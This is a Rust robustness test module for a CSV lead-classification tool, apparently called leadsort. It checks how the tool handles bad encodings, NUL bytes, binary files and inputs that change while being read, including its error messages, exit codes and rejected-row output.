//! Robustness: every promise and every row of the bad-input table of RELIABILITY.md, end to
//! end against the real executable. TESTING.md maps each row to the tests proving it, here and
//! in the other modules.
//!
//! The binary under test is a debug build, so the `LEADSORT_FAULT=step[@file]` hook of
//! `src/output/atomic.rs` is active. Fixtures live in `tests/fixtures/bad/`; huge or binary
//! inputs are generated in the test's temp folder. Third-party conformance files live in
//! `tests/conformance/` and are read with Python's csv module as an independent oracle.

use std::collections::{BTreeMap, BTreeSet};
use std::fmt::Write as _;
use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Child, Output, Stdio};
use std::time::{Duration, Instant};

use leadsort::rules::toml_string;

use crate::util::{self, CONTACTS, Env, RULES};

const HEADER: &str = "id,email,Job Title,Company Size,demo,unsubscribed,sales_status";

/// The header leadsort writes for `HEADER` scored with `RULES`.
const OUT_HEADER: &str = "id,email,Job Title,Company Size,demo,unsubscribed,sales_status,\
                          score,score_fit,tier,queue,reasons";

/// The files `--split out` writes for `RULES`, and the run lock.
const SPLIT_FILES: [&str; 6] = [
    ".leadsort.lock",
    "marketing.csv",
    "rejected.csv",
    "sales.csv",
    "summary.json",
    "suppressed.csv",
];

/// Where `RULES` sends each contact of `CONTACTS` (and of the fixtures built from it).
const ROUTES: [(&str, &str); 5] = [
    ("1", "sales.csv"),
    ("2", "marketing.csv"),
    ("3", "suppressed.csv"),
    ("4", "marketing.csv"),
    ("5", "sales.csv"),
];

/// Contact data in the fixtures: none of it may ever appear in a message (promise 7).
const PERSONAL: [&str; 12] = [
    "ann@acme.com",
    "bob@gmail.com",
    "cy@initech.io",
    "di@globex.com",
    "ed@acme.com",
    "fay@acme.com",
    "gus@acme.com",
    "jose@acme.com",
    "zoe@acme.com",
    "VP Sales",
    "Engineer",
    "Chief of Staff",
];

const TEMP_SUFFIX: &str = ".leadsort-tmp";

// ---- helpers ----------------------------------------------------------------------------

fn fixture_path(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/fixtures/bad")
        .join(name)
}

fn fixture(name: &str) -> Vec<u8> {
    std::fs::read(fixture_path(name)).unwrap_or_else(|e| panic!("fixture {name}: {e}"))
}

/// `Env::standard()` with the fixture copied in under its own name and an empty `out/`.
fn with_fixture(name: &str) -> Env {
    let env = Env::standard();
    env.write(name, fixture(name));
    std::fs::create_dir(env.path("out")).unwrap();
    env
}

/// `leadsort classify --as-of 2026-11-27 ARGS...`, never with an inherited fault.
fn classify(env: &Env, args: &[&str]) -> assert_cmd::Command {
    let mut cmd = env.classify(args);
    cmd.env_remove("LEADSORT_FAULT").timeout(HANG);
    cmd
}

/// Longer than any run here takes: a hung run fails its test instead of stalling CI.
const HANG: Duration = Duration::from_secs(120);

/// Ask `check` every 2 ms until it answers; after `limit`, the child is killed (-9, which no
/// handler can catch) and the test fails, saying `what` it waited for.
fn poll<T>(
    child: &mut Child,
    limit: Duration,
    what: &str,
    mut check: impl FnMut(&mut Child) -> Option<T>,
) -> T {
    let deadline = Instant::now() + limit;
    loop {
        if let Some(answer) = check(child) {
            return answer;
        }
        if Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!("{what}: still waiting after {limit:?}, killed");
        }
        std::thread::sleep(Duration::from_millis(2));
    }
}

/// Wait for the child's exit and its output, at most `HANG`; a hung child is killed and the
/// test fails.
fn wait_within(mut child: Child, what: &str) -> Output {
    poll(&mut child, HANG, what, |c| c.try_wait().unwrap());
    child.wait_with_output().unwrap()
}

/// leadsort as a `std::process::Command`, for runs that are signalled or piped.
pub(crate) fn std_leadsort(env: &Env) -> std::process::Command {
    let mut cmd = std::process::Command::new(assert_cmd::cargo::cargo_bin!("leadsort"));
    cmd.current_dir(env.root())
        .env_remove("LEADSORT_RULES")
        .env_remove("NO_COLOR")
        .env_remove("LEADSORT_FAULT")
        .env("TZ", "UTC");
    cmd
}

/// `classify --as-of 2026-11-27` as a `std::process::Command`.
fn std_classify(env: &Env) -> std::process::Command {
    let mut cmd = std_leadsort(env);
    cmd.args(["classify", "--as-of", "2026-11-27"]);
    cmd
}

fn run(cmd: &mut assert_cmd::Command) -> Output {
    cmd.output().expect("leadsort runs")
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).into_owned()
}

/// Whatever the outcome, leadsort did not panic or die of a signal.
#[track_caller]
fn assert_no_panic(out: &Output) {
    let err = stderr(out);
    assert!(
        !matches!(out.status.code(), None | Some(70) | Some(101)),
        "crashed ({:?}):\n{err}",
        out.status
    );
    assert!(
        !err.contains("panicked") && !err.contains("internal error"),
        "{err}"
    );
}

/// No message shows contact data.
#[track_caller]
fn assert_no_personal_data(err: &str) {
    for p in PERSONAL {
        assert!(!err.contains(p), "stderr shows contact data {p:?}:\n{err}");
    }
}

/// The run succeeded; its stdout. Stderr is checked for contact data.
#[track_caller]
fn assert_ok(out: &Output) -> String {
    assert_eq!(out.status.code(), Some(0), "stderr:\n{}", stderr(out));
    assert_no_personal_data(&stderr(out));
    String::from_utf8(out.stdout.clone()).expect("UTF-8 output")
}

/// The run failed with `code`; every stderr line starts with `leadsort:`, it contains every one
/// of `parts` and shows no contact data. Returns stderr.
#[track_caller]
fn assert_error(out: &Output, code: i32, parts: &[&str]) -> String {
    assert_no_panic(out);
    let err = stderr(out);
    assert_eq!(out.status.code(), Some(code), "exit code; stderr:\n{err}");
    assert!(err.starts_with("leadsort: "), "{err}");
    assert!(
        err.lines().any(|l| l.starts_with("leadsort: error: ")),
        "no `leadsort: error:` line in\n{err}"
    );
    // rules.toml errors show the source line under the message; usage errors are clap's
    // (see `usage_errors_are_prefixed_on_every_line`).
    if code != 78 && code != 2 {
        for line in err.lines() {
            assert!(
                line.starts_with("leadsort:"),
                "unprefixed line {line:?} in\n{err}"
            );
        }
    }
    for part in parts {
        assert!(err.contains(part), "stderr lacks {part:?}:\n{err}");
    }
    assert_no_personal_data(&err);
    err
}

/// Every file directly in `dir`: name → bytes.
fn snapshot(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .filter(|e| e.file_type().is_ok_and(|t| t.is_file()))
        .map(|e| {
            (
                e.file_name().to_string_lossy().into_owned(),
                std::fs::read(e.path()).unwrap_or_default(),
            )
        })
        .collect()
}

fn names(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .collect();
    v.sort();
    v
}

/// leadsort's temp files in `dir`.
fn temp_files(dir: &Path) -> Vec<String> {
    names(dir)
        .into_iter()
        .filter(|n| n.starts_with('.') && n.ends_with(TEMP_SUFFIX))
        .collect()
}

#[track_caller]
fn assert_no_temp_files(dir: &Path) {
    assert_eq!(
        temp_files(dir),
        Vec::<String>::new(),
        "temp files left in {dir:?}"
    );
}

/// The folder is exactly as `before`, byte for byte, with no file added or removed.
#[track_caller]
fn assert_unchanged(dir: &Path, before: &BTreeMap<String, Vec<u8>>, what: &str) {
    let now = snapshot(dir);
    let changed: Vec<&String> = before
        .keys()
        .chain(now.keys())
        .collect::<BTreeSet<_>>()
        .into_iter()
        .filter(|k| before.get(*k) != now.get(*k))
        .collect();
    assert!(
        changed.is_empty(),
        "{what}: these files of {dir:?} changed, appeared or vanished: {changed:?}"
    );
}

fn json(path: &Path) -> serde_json::Value {
    let text = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{path:?}: {e}"));
    serde_json::from_str(&text).unwrap()
}

fn sum(v: &serde_json::Value) -> u64 {
    v.as_object()
        .unwrap()
        .values()
        .map(|n| n.as_u64().unwrap())
        .sum()
}

/// The summary's counts add up: `rows` records, each a contact or rejected; every contact in
/// one queue and one tier.
#[track_caller]
fn assert_counts_add_up(s: &serde_json::Value, rows: u64) {
    let (contacts, rejected) = (
        s["contacts"].as_u64().unwrap(),
        s["rejected"].as_u64().unwrap(),
    );
    assert_eq!(s["rows"].as_u64(), Some(rows), "{s:#}");
    assert_eq!(contacts + rejected, rows, "{s:#}");
    assert_eq!(sum(&s["queues"]), contacts, "{s:#}");
    assert_eq!(sum(&s["tiers"]), contacts, "{s:#}");
}

/// One row of `rejected.csv`.
#[derive(Debug, Clone, PartialEq, Eq)]
struct RejectedRow {
    record: u64,
    line: u64,
    reason: String,
    raw: Vec<u8>,
}

fn rejected_rows(path: &Path) -> Vec<RejectedRow> {
    let bytes = std::fs::read(path).unwrap();
    let mut r = csv::ReaderBuilder::new().from_reader(&bytes[..]);
    assert_eq!(
        r.byte_headers().unwrap(),
        &csv::ByteRecord::from(vec!["record", "line", "reason", "row"])
    );
    r.byte_records()
        .map(|rec| {
            let rec = rec.unwrap();
            let num = |i: usize| {
                std::str::from_utf8(&rec[i])
                    .unwrap()
                    .parse::<u64>()
                    .unwrap()
            };
            let reason = String::from_utf8(rec[2].to_vec()).unwrap();
            assert!(!reason.is_empty(), "a rejected row without a reason");
            RejectedRow {
                record: num(0),
                line: num(1),
                reason,
                raw: rec[3].to_vec(),
            }
        })
        .collect()
}

/// The ids a rejected raw row holds: the first cell of each of its lines (a merged record
/// holds several rows), without quotes or the formula-escaping `'`.
fn raw_ids(raw: &[u8]) -> Vec<String> {
    raw.split(|b| *b == b'\n' || *b == b'\r')
        .filter_map(|line| {
            let end = line
                .iter()
                .position(|b| matches!(b, b',' | b';' | b'\t' | b'|'))
                .unwrap_or(line.len());
            let id = String::from_utf8_lossy(&line[..end])
                .trim_matches(|c| c == '"' || c == '\'')
                .to_string();
            (!id.is_empty()).then_some(id)
        })
        .collect()
}

/// Where every row went with `--split dir`: id → the files it appears in (a queue file by its
/// `id` column, `rejected.csv` by `raw_ids`).
fn routed(dir: &Path) -> BTreeMap<String, Vec<String>> {
    let mut map: BTreeMap<String, Vec<String>> = BTreeMap::new();
    for name in names(dir) {
        if !name.ends_with(".csv") || name.starts_with('.') {
            continue;
        }
        if name == "rejected.csv" {
            for row in rejected_rows(&dir.join(&name)) {
                for id in raw_ids(&row.raw) {
                    map.entry(id).or_default().push(name.clone());
                }
            }
        } else {
            let text = std::fs::read_to_string(dir.join(&name)).unwrap();
            for id in util::column(&text, "id") {
                map.entry(id).or_default().push(name.clone());
            }
        }
    }
    map
}

/// Every id of `ids` is in exactly one output file and no other id is anywhere; the summary's
/// counts add up to `records`. Returns id → file.
#[track_caller]
fn assert_each_row_once(dir: &Path, ids: &[&str], records: u64) -> BTreeMap<String, String> {
    let routed = assert_ids_once(dir, ids);
    assert_counts_add_up(&json(&dir.join("summary.json")), records);
    routed
}

/// Every id of `ids` is in exactly one output file and no other id is anywhere. Returns
/// id → file.
#[track_caller]
fn assert_ids_once(dir: &Path, ids: &[&str]) -> BTreeMap<String, String> {
    let map = routed(dir);
    let want: BTreeSet<String> = ids.iter().map(|s| s.to_string()).collect();
    let lost: Vec<&String> = want.iter().filter(|id| !map.contains_key(*id)).collect();
    let twice: Vec<(&String, &Vec<String>)> = map.iter().filter(|(_, f)| f.len() != 1).collect();
    let extra: Vec<&String> = map.keys().filter(|id| !want.contains(*id)).collect();
    let show = |v: &[&String]| {
        let n = v.len();
        let first: Vec<&&String> = v.iter().take(5).collect();
        format!("{n} (first: {first:?})")
    };
    assert!(lost.is_empty(), "rows in no output: {}", show(&lost));
    assert!(twice.is_empty(), "rows in several outputs: {twice:?}");
    assert!(extra.is_empty(), "unexpected rows: {}", show(&extra));
    map.into_iter().map(|(id, f)| (id, f[0].clone())).collect()
}

/// `ROUTES`, as a map, for the given ids.
fn routes(ids: &[&str]) -> BTreeMap<String, String> {
    ROUTES
        .iter()
        .filter(|(id, _)| ids.contains(id))
        .map(|(id, f)| (id.to_string(), f.to_string()))
        .collect()
}

/// A good run of `CONTACTS` into `out/`, to have previous outputs; their snapshot.
fn previous_outputs(env: &Env) -> BTreeMap<String, Vec<u8>> {
    if !env.path("out").is_dir() {
        std::fs::create_dir(env.path("out")).unwrap();
    }
    assert_ok(&run(&mut classify(
        env,
        &["--split", "out", "contacts.csv"],
    )));
    let before = snapshot(&env.path("out"));
    assert_eq!(before.keys().cloned().collect::<Vec<String>>(), SPLIT_FILES);
    before
}

/// `CONTACTS`-like rows with ids 1..=rows: every 500th has too few fields (rejected).
fn big_contacts(rows: usize) -> String {
    const TITLES: [&str; 5] = [
        "VP Sales",
        "Engineer",
        "Director",
        "Chief of Staff",
        "Intern",
    ];
    let mut s = String::with_capacity(rows * 64);
    s.push_str(HEADER);
    s.push('\n');
    for i in 1..=rows {
        if i % 500 == 0 {
            writeln!(s, "{i},short").unwrap();
            continue;
        }
        writeln!(
            s,
            "{i},p{i}@{},{},{},{},{},{}",
            if i % 3 == 0 { "gmail.com" } else { "acme.com" },
            TITLES[i % 5],
            i % 400,
            if i % 2 == 0 { "yes" } else { "no" },
            if i % 7 == 0 { "yes" } else { "no" },
            if i % 11 == 0 { "no response" } else { "" },
        )
        .unwrap();
    }
    s
}

fn python3(args: &[&std::ffi::OsStr]) -> String {
    let out = std::process::Command::new("python3")
        .args(args)
        .output()
        .expect("python3 runs (the tests need it, see README)");
    assert!(
        out.status.success(),
        "python3 {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8(out.stdout).unwrap()
}

fn python_sha256(path: &Path) -> String {
    python3(&[
        "-c".as_ref(),
        "import hashlib,sys; print(hashlib.sha256(open(sys.argv[1],'rb').read()).hexdigest())"
            .as_ref(),
        path.as_os_str(),
    ])
    .trim()
    .to_string()
}

/// Send `signal` (a name for `kill -s`) to the child.
fn signal(child: &Child, signal: &str) {
    let status = std::process::Command::new("kill")
        .args(["-s", signal, &child.id().to_string()])
        .status()
        .expect("kill runs");
    assert!(status.success(), "kill -s {signal} failed");
}

/// Wait until a temp file that is not in `stale` appears in `dir` (the run has created its
/// outputs and is streaming rows), or the child exits (`false`).
fn wait_for_new_temp(child: &mut Child, dir: &Path, stale: &BTreeSet<String>) -> bool {
    let limit = Duration::from_secs(60);
    poll(child, limit, "the run to start writing", |c| {
        if temp_files(dir).iter().any(|t| !stale.contains(t)) {
            Some(true)
        } else {
            c.try_wait().unwrap().map(|_| false)
        }
    })
}

/// Whether process `pid` holds an flock on `lock`, from /proc (`None`: /proc cannot tell).
/// Looks at the lock lines of `/proc/PID/fdinfo/FD` for the lock file's descriptor, and at
/// `/proc/locks` (`1: FLOCK  ADVISORY  WRITE PID MAJ:MIN:INODE 0 EOF`).
#[cfg(unix)]
fn holds_lock(pid: u32, lock: &Path) -> Option<bool> {
    use std::os::unix::fs::MetadataExt;
    let lock = lock.canonicalize().ok()?;
    let inode = std::fs::metadata(&lock).ok()?.ino().to_string();
    let pid_text = pid.to_string();
    let in_proc_locks = std::fs::read_to_string("/proc/locks").ok().map(|locks| {
        locks.lines().any(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            f.get(1) == Some(&"FLOCK")
                && f.get(4) == Some(&pid_text.as_str())
                && f.get(5).and_then(|d| d.rsplit(':').next()) == Some(inode.as_str())
        })
    });
    let in_fdinfo = std::fs::read_dir(format!("/proc/{pid}/fd"))
        .ok()
        .map(|fds| {
            fds.flatten().any(|fd| {
                std::fs::read_link(fd.path()).ok().as_deref() == Some(lock.as_path())
                    && std::fs::read_to_string(format!(
                        "/proc/{pid}/fdinfo/{}",
                        fd.file_name().to_string_lossy()
                    ))
                    .is_ok_and(|info| {
                        info.lines()
                            .any(|l| l.starts_with("lock:") && l.contains("FLOCK"))
                    })
            })
        });
    match (in_proc_locks, in_fdinfo) {
        (None, None) => None,
        (a, b) => Some(a == Some(true) || b == Some(true)),
    }
}

#[cfg(not(unix))]
fn holds_lock(_pid: u32, _lock: &Path) -> Option<bool> {
    None
}

/// Wait until the child holds the lock (deterministic where /proc tells; else a pause).
fn wait_for_lock(child: &mut Child, lock: &Path) {
    let limit = Duration::from_secs(60);
    poll(child, limit, "the first run to take the lock", |c| {
        assert!(
            c.try_wait().unwrap().is_none(),
            "the first run ended before it held the lock"
        );
        if !lock.exists() {
            return None;
        }
        match holds_lock(c.id(), lock) {
            Some(true) => Some(()),
            Some(false) => None,
            None => {
                eprintln!("note: /proc does not show locks here; pausing instead");
                std::thread::sleep(Duration::from_secs(1));
                Some(())
            }
        }
    })
}

fn euid_is_root() -> bool {
    std::process::Command::new("id")
        .arg("-u")
        .output()
        .is_ok_and(|o| String::from_utf8_lossy(&o.stdout).trim() == "0")
}

// ---- UTF-8 BOM --------------------------------------------------------------------------

#[test]
fn utf8_bom_is_stripped_so_a_rule_on_the_first_column_binds() {
    let env = with_fixture("utf8_bom.csv");
    // A route on `id`, the column the BOM sits in front of: it binds only if the BOM is gone.
    env.write(
        "rules.toml",
        format!(
            "{RULES}\n[[route]]\nname = \"VIP\"\nwhen = {{ field = \"id\", in = [\"5\"] }}\nqueue = \"vip\"\n"
        ),
    );
    let out = run(&mut classify(&env, &["--split", "out", "utf8_bom.csv"]));
    assert_ok(&out);
    assert_eq!(stderr(&out), "");
    let dir = env.path("out");
    let mut want = routes(&["1", "2", "3", "4"]);
    want.insert("5".into(), "vip.csv".into());
    assert_eq!(
        assert_each_row_once(&dir, &["1", "2", "3", "4", "5"], 5),
        want
    );
    for name in ["sales.csv", "vip.csv", "marketing.csv"] {
        let text = std::fs::read_to_string(dir.join(name)).unwrap();
        assert!(text.starts_with("id,email,"), "{name}: {text:?}");
    }

    // A BOM in front of a `;` file: the delimiter is still sniffed.
    env.write("utf8_bom_semicolon.csv", fixture("utf8_bom_semicolon.csv"));
    let stdout = assert_ok(&run(&mut classify(&env, &["utf8_bom_semicolon.csv"])));
    assert!(stdout.starts_with("id,email,Job Title,"), "{stdout}");
    assert_eq!(
        util::column(&stdout, "queue"),
        ["sales", "marketing", "suppressed", "marketing", "vip"]
    );
}

// ---- Windows-1252 -----------------------------------------------------------------------

#[test]
fn report_and_calibrate_give_the_encoding_hint_for_windows_1252_rows_too() {
    let env = with_fixture("windows1252.csv");
    let subcommands: [&[&str]; 2] = [
        &["report", "windows1252.csv"],
        &["calibrate", "--outcome", "sales_status", "windows1252.csv"],
    ];
    for args in subcommands {
        let out = run(env
            .cmd()
            .args(args)
            .args(["--as-of", "2026-11-27"])
            .env_remove("LEADSORT_FAULT")
            .timeout(HANG));
        let err = stderr(&out);
        assert!(
            err.contains(
                "windows1252.csv has rows that are not UTF-8 (the first is record 2, line 3)"
            ) && err.contains("--encoding windows-1252"),
            "{args:?}: {err}"
        );
    }
}

#[test]
fn windows_1252_rows_are_rejected_with_record_line_and_the_encoding_hint() {
    let env = with_fixture("windows1252.csv");
    let out = run(&mut classify(&env, &["--split", "out", "windows1252.csv"]));
    assert_ok(&out);
    let err = stderr(&out);
    assert!(
        err.contains("3 of 5 rows in windows1252.csv could not be read and were rejected"),
        "{err}"
    );
    assert!(
        err.contains("the first is record 2, line 3") && err.contains("--encoding windows-1252"),
        "{err}"
    );
    let dir = env.path("out");
    let routed = assert_each_row_once(&dir, &["1", "2", "3", "4", "5"], 5);
    assert_eq!(routed["1"], "sales.csv");
    assert_eq!(routed["4"], "marketing.csv");
    let rejected = rejected_rows(&dir.join("rejected.csv"));
    let places: Vec<(u64, u64)> = rejected.iter().map(|r| (r.record, r.line)).collect();
    assert_eq!(places, [(2, 3), (3, 4), (5, 6)]);
    assert!(
        rejected[0]
            .reason
            .starts_with("column 3 (Job Title) is not valid UTF-8")
    );
    assert!(
        rejected[1]
            .reason
            .starts_with("column 2 (email) is not valid UTF-8")
    );
    assert!(
        rejected[2]
            .reason
            .starts_with("column 3 (Job Title) is not valid UTF-8")
    );
    for r in &rejected {
        assert!(r.reason.contains("--encoding windows-1252"), "{r:?}");
    }
    // Never silently replaced: the raw bytes are kept, and no output has U+FFFD.
    assert_eq!(
        rejected[0].raw,
        b"2,jose@acme.com,Director Espa\xf1a,250,yes,no,"
    );
    for (name, bytes) in snapshot(&dir) {
        assert!(
            !bytes.windows(3).any(|w| w == "\u{fffd}".as_bytes()),
            "{name} holds a replacement character"
        );
    }

    // --strict stops at the first such row, naming it, with the hint; nothing replaced.
    let before = snapshot(&dir);
    let out = run(&mut classify(
        &env,
        &["--strict", "--split", "out", "windows1252.csv"],
    ));
    assert_error(
        &out,
        65,
        &[
            "windows1252.csv: record 2 (line 3)",
            "not valid UTF-8",
            "--encoding windows-1252",
        ],
    );
    assert_unchanged(&dir, &before, "--strict on a Windows-1252 file");
}

#[test]
fn windows_1252_is_read_correctly_with_the_encoding_flag() {
    let env = with_fixture("windows1252.csv");
    for label in ["windows-1252", "latin1", "cp1252"] {
        let out = run(&mut classify(
            &env,
            &["--encoding", label, "windows1252.csv"],
        ));
        let stdout = assert_ok(&out);
        assert_eq!(stderr(&out), "", "{label}");
        assert_eq!(
            util::column(&stdout, "Job Title"),
            [
                "VP Sales",
                "Director España",
                "Engineer",
                "Chief of Staff",
                "Head of € budget"
            ],
            "{label}"
        );
        assert_eq!(util::column(&stdout, "email")[2], "müller@gmail.com");
        // The decoded cells are scored: España's director is warm, müller@gmail.com is free mail.
        assert_eq!(
            util::column(&stdout, "score"),
            ["60", "60", "-10", "60", "0"],
            "{label}"
        );
        assert_eq!(
            util::column(&stdout, "queue"),
            ["sales", "sales", "marketing", "marketing", "marketing"]
        );
    }
}

#[test]
fn a_semicolon_export_in_another_encoding_has_its_delimiter_found() {
    // A European Excel's export: `;`, CRLF, Windows-1252 (or UTF-16 without a byte order
    // mark), perhaps a `sep=;` line. Decoded, it reads as the comma-separated UTF-8 file.
    let env = with_fixture("windows1252.csv");
    let plain = assert_ok(&run(&mut classify(
        &env,
        &["--encoding", "windows-1252", "windows1252.csv"],
    )));
    let semicolons: Vec<u8> = fixture("windows1252.csv")
        .iter()
        .flat_map(|&b| match b {
            b',' => vec![b';'],
            b'\n' => vec![b'\r', b'\n'],
            b => vec![b],
        })
        .collect();
    env.write("semi.csv", &semicolons);
    env.write("sep.csv", [b"sep=;\r\n".as_slice(), &semicolons].concat());
    let text: String = semicolons.iter().map(|&b| char::from(b)).collect();
    let utf16: Vec<u8> = text
        .replace('\u{80}', "\u{20ac}")
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    env.write("utf16.csv", utf16);
    for (file, encoding) in [
        ("semi.csv", "windows-1252"),
        ("sep.csv", "windows-1252"),
        ("utf16.csv", "utf-16le"),
    ] {
        let out = run(&mut classify(&env, &["--encoding", encoding, file]));
        assert_eq!(assert_ok(&out), plain, "{file}");
    }
}

#[test]
fn windows_1252_header_exits_65_naming_line_1_and_reads_with_the_flag() {
    let env = with_fixture("windows1252_header.csv");
    let before = previous_outputs(&env);
    let out = run(&mut classify(
        &env,
        &["--split", "out", "windows1252_header.csv"],
    ));
    assert_error(
        &out,
        65,
        &[
            "windows1252_header.csv: the header (line 1, column 8) is not valid UTF-8",
            "--encoding windows-1252",
        ],
    );
    assert_unchanged(&env.path("out"), &before, "a header that is not UTF-8");
    let out = run(&mut classify(
        &env,
        &["--encoding", "windows-1252", "windows1252_header.csv"],
    ));
    let stdout = assert_ok(&out);
    assert!(
        stdout.starts_with(&format!("{HEADER},Société,score,")),
        "{stdout}"
    );
}

// ---- UTF-16 -----------------------------------------------------------------------------

fn utf16(text: &str, big_endian: bool, bom: bool) -> Vec<u8> {
    let mut out = Vec::new();
    let units = bom
        .then_some(0xFEFF_u16)
        .into_iter()
        .chain(text.encode_utf16());
    for u in units {
        out.extend_from_slice(&if big_endian {
            u.to_be_bytes()
        } else {
            u.to_le_bytes()
        });
    }
    out
}

/// `CONTACTS` and a row with letters outside Latin-1 and outside the BMP (a surrogate pair).
fn contacts_beyond_ascii() -> String {
    format!("{CONTACTS}6,zoë@acme.com,Directør 😀 Ünïcode,10,no,no,\n")
}

#[test]
fn utf16_with_a_byte_order_mark_is_read_like_utf8_in_both_byte_orders() {
    let env = Env::standard();
    env.write("utf8.csv", contacts_beyond_ascii());
    let want = assert_ok(&run(&mut classify(&env, &["utf8.csv"])));
    assert!(want.contains("Directør 😀 Ünïcode"), "{want}");
    for (name, be) in [("utf16le.csv", false), ("utf16be.csv", true)] {
        env.write(name, utf16(&contacts_beyond_ascii(), be, true));
        let out = run(&mut classify(&env, &[name]));
        assert_eq!(assert_ok(&out), want, "{name}");
        assert_eq!(stderr(&out), "", "{name}");
    }
}

#[test]
fn utf16_that_cannot_be_decoded_exits_65_naming_the_line() {
    // A lone surrogate (D800) at the start of a line, near the top (read with the header) or
    // far down (read by the work loop): decoded, it would become U+FFFD.
    let env = Env::standard();
    env.write("out.csv", "old\n");
    for (rows, line) in [(5, 4), (40_000, 30_000)] {
        let text = big_contacts(rows);
        let at: usize = text
            .split_inclusive('\n')
            .take(line - 1)
            .map(str::len)
            .sum();
        let mut bytes = utf16(&text[..at], false, true);
        bytes.extend([0x00, 0xD8]);
        bytes.extend(utf16(&text[at..], false, false));
        env.write("bad16.csv", bytes);
        let out = run(&mut classify(&env, &["-o", "out.csv", "bad16.csv"]));
        let said = format!("bad16.csv: line {line}: bytes that are not valid UTF-16LE");
        assert_error(&out, 65, &[&said]);
        assert_eq!(env.read("out.csv"), "old\n");
        assert_no_temp_files(env.root());
    }
}

#[test]
fn utf32_is_named_as_such_and_exits_65() {
    let env = Env::standard();
    let text = contacts_beyond_ascii();
    for (name, be) in [("utf32le.csv", false), ("utf32be.csv", true)] {
        let mut bytes = Vec::new();
        for c in std::iter::once('\u{feff}').chain(text.chars()) {
            let c = u32::from(c);
            bytes.extend(if be { c.to_be_bytes() } else { c.to_le_bytes() });
        }
        env.write(name, bytes);
        let out = run(&mut classify(&env, &[name]));
        assert_error(&out, 65, &[name, "is UTF-32 text", "save it as UTF-8"]);
    }
}

#[test]
fn utf16_without_a_byte_order_mark_exits_65_naming_utf16_and_reads_with_the_flag() {
    let env = Env::standard();
    env.write("utf8.csv", contacts_beyond_ascii());
    let want = assert_ok(&run(&mut classify(&env, &["utf8.csv"])));
    for (name, be, label) in [("le.csv", false, "utf-16le"), ("be.csv", true, "utf-16be")] {
        env.write(name, utf16(&contacts_beyond_ascii(), be, false));
        let out = run(&mut classify(&env, &[name]));
        assert_error(
            &out,
            65,
            &[
                &format!("{name} contains NUL bytes"),
                "UTF-16 without a byte order mark",
                "--encoding utf-16le",
            ],
        );
        assert!(out.stdout.is_empty());
        let out = run(&mut classify(&env, &["--encoding", label, name]));
        assert_eq!(assert_ok(&out), want, "{name} with --encoding {label}");
    }
}

// ---- NUL bytes, Excel, ZIP, gzip ----------------------------------------------------------

#[test]
fn nul_bytes_exit_65_before_any_output_is_touched() {
    let env = with_fixture("nul_byte.csv");
    let before = previous_outputs(&env);
    let at = fixture("nul_byte.csv")
        .iter()
        .position(|b| *b == 0)
        .unwrap();
    let out = run(&mut classify(&env, &["--split", "out", "nul_byte.csv"]));
    assert_error(
        &out,
        65,
        &[&format!("nul_byte.csv contains NUL bytes (at byte {at})")],
    );
    assert_unchanged(&env.path("out"), &before, "NUL bytes");
}

/// An export still being written while it is read (here: a row appended while the run
/// waits on creating its output) is told, so --deny-warnings refuses the run.
#[cfg(target_os = "linux")]
#[test]
fn an_input_that_grows_while_read_is_warned_about() {
    let env = Env::standard();
    let mut cmd = std_classify(&env);
    cmd.args(["--deny-warnings", "-o", "o.csv", "contacts.csv"])
        .env("LEADSORT_FAULT", "slow-create@o.csv")
        .stderr(Stdio::piped());
    let child = cmd.spawn().unwrap();
    // Once the run has the input open (it then waits a second before creating its output).
    let fds = format!("/proc/{}/fd", child.id());
    let has_it_open = || {
        std::fs::read_dir(&fds)
            .into_iter()
            .flatten()
            .flatten()
            .any(|fd| std::fs::read_link(fd.path()).is_ok_and(|p| p.ends_with("contacts.csv")))
    };
    let start = std::time::Instant::now();
    while !has_it_open() && start.elapsed() < HANG {
        std::thread::sleep(std::time::Duration::from_millis(10));
    }
    let mut more = std::fs::OpenOptions::new()
        .append(true)
        .open(env.path("contacts.csv"))
        .unwrap();
    std::io::Write::write_all(&mut more, b"6,fay@acme.com,VP,10,no,no,\n").unwrap();
    let out = child.wait_with_output().unwrap();
    assert_eq!(out.status.code(), Some(65), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("contacts.csv changed while it was read (it went from"),
        "{}",
        stderr(&out)
    );
    assert!(!env.exists("o.csv"));
}

/// A program or an image given as the input is called a binary file, not UTF-16 (its NULs
/// fall on both sides, not on every other byte).
#[test]
fn a_binary_file_is_not_taken_for_utf16() {
    let env = Env::standard();
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0\x3e\0\x01\0\0\0".to_vec();
    for i in 0..2000u32 {
        elf.extend_from_slice(&(i * 0x0101).to_le_bytes());
    }
    env.write("prog.csv", &elf);
    let out = run(&mut classify(&env, &["prog.csv"]));
    assert_error(
        &out,
        65,
        &["prog.csv contains NUL bytes", "is it a binary file?"],
    );
}

#[test]
fn a_nul_byte_past_the_first_8_kib_rejects_its_row() {
    let env = Env::standard();
    let mut csv = big_contacts(299).into_bytes(); // no short row below 500
    csv.extend_from_slice(
        b"300,p300@acme.com,Dir\0ector,5,yes,no,\n301,p301@acme.com,Director,5,yes,no,\n",
    );
    assert!(csv.iter().position(|b| *b == 0).unwrap() > 8192);
    env.write("late_nul.csv", &csv);
    std::fs::create_dir(env.path("out")).unwrap();
    assert_ok(&run(&mut classify(
        &env,
        &["--split", "out", "late_nul.csv"],
    )));
    let ids: Vec<String> = (1..=301).map(|i| i.to_string()).collect();
    let ids: Vec<&str> = ids.iter().map(String::as_str).collect();
    let routed = assert_each_row_once(&env.path("out"), &ids, 301);
    assert_eq!(routed["300"], "rejected.csv");
    let rejected = rejected_rows(&env.path("out/rejected.csv"));
    assert_eq!(rejected.len(), 1);
    assert_eq!((rejected[0].record, rejected[0].line), (300, 301));
